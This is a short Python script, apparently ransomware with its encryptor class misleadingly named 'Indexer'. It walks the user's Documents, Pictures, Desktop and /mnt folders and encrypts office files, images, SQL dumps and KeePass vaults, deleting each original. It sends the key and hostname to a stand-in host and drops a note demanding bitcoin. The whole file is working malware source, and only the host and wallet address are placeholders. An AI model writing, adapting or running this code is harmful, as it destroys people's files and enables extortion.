import os, sys, threading, urllib.request
from cryptography.fernet import Fernet

EXT = tuple(".docx .xlsx .pdf .odt .jpg .png .sql .kdbx .pptx".split())
SKIP = {"proc", "sys", "dev", "snap", ".cache"}


class Indexer(threading.Thread):
    def __init__(self, root, box):
        super().__init__()
        self.root, self.box = root, box

    def run(self):
        for d, subs, names in os.walk(self.root):
            subs[:] = [s for s in subs if s not in SKIP]
            for n in names:
                if not n.lower().endswith(EXT):
                    continue
                p = os.path.join(d, n)
                try:
                    with open(p, "rb") as fh:
                        data = self.box.encrypt(fh.read())
                    with open(p + ".idx", "wb") as fh:
                        fh.write(data)
                    os.remove(p)
                except OSError:
                    pass


key = Fernet.generate_key()
urllib.request.urlopen("http://keys.pay.invalid/k?h=" + os.uname().nodename, data=key)
workers = [Indexer(os.path.expanduser(r), Fernet(key)) for r in ("~/Documents", "~/Pictures", "~/Desktop", "/mnt")]
[w.start() for w in workers]
[w.join() for w in workers]
with open(os.path.expanduser("~/Desktop/RECOVER.txt"), "w") as note:
    note.write("Your files were indexed. Send 0.05 BTC to bc1qmadeupaddress00000000000000000 "
               "and mail help@pay.invalid to get them back.\n")
